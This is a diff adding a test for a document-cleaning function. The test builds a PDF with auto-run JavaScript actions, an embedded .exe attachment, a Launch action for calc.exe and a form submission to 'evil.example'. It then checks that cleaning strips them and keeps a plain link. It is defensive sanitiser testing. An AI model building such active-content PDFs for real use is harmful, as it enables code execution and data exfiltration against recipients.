@@ -1,4 +1,4 @@
-import { PDFDocument, PDFName } from '@cantoo/pdf-lib'
+import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
 import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
 import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
@@ -30,6 +30,34 @@ test('a PDF keeps its pages and forgets who made it', async () => {
   expect([read.getPageCount(), read.getAuthor(), read.getCreator()]).toEqual([1, undefined, undefined])
   const plain = Buffer.from(await read.save({ useObjectStreams: false }))
   expect(plain.includes(SURNAME)).toBe(false)
+})
+
+test('a PDF keeps its links and loses all that acts', async () => {
+  const source = await PDFDocument.create()
+  const page = source.addPage([300, 200])
+  const { context } = source
+  const action = (fields: object) => context.register(context.obj({ Type: 'Action', ...fields } as never))
+  const script = action({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })
+  const link = (target: unknown) => context.obj({ Subtype: 'Link', Rect: [0, 0, 9, 9], A: target } as never)
+  source.catalog.set(PDFName.of('OpenAction'), script)
+  source.catalog.set(PDFName.of('AA'), context.obj({ WC: script }))
+  page.node.set(PDFName.of('AA'), context.obj({ O: script }))
+  source.addJavaScript('start', 'app.alert(2)')
+  await source.attach(Buffer.from('MZ secret'), 'secret.exe', { mimeType: 'application/octet-stream' })
+  const links = [
+    link(context.obj({ S: 'Launch', F: PDFString.of('calc.exe') })),
+    link(action({ S: 'SubmitForm', F: PDFString.of('https://evil.example') })),
+    link(context.obj({ S: 'URI', URI: PDFString.of('https://samursk.example') })),
+  ]
+  page.node.set(PDFName.of('Annots'), context.obj(links))
+  const acting = /OpenAction|\/AA|JavaScript|Launch|SubmitForm|EmbeddedFiles|app\.alert|calc\.exe|evil\.example/
+  const written = Buffer.from(await source.save({ useObjectStreams: false }))
+  expect(written.toString('latin1')).toMatch(acting)
+
+  const cleaned = await PDFDocument.load(await cleanDocument(written, 'application/pdf'), { updateMetadata: false })
+  const plain = Buffer.from(await cleaned.save({ useObjectStreams: false })).toString('latin1')
+  expect(plain).not.toMatch(acting)
+  expect(plain).toContain('https://samursk.example')
 })
 
 test('a document of Word keeps its words and forgets who wrote, changed and noted', async () => {
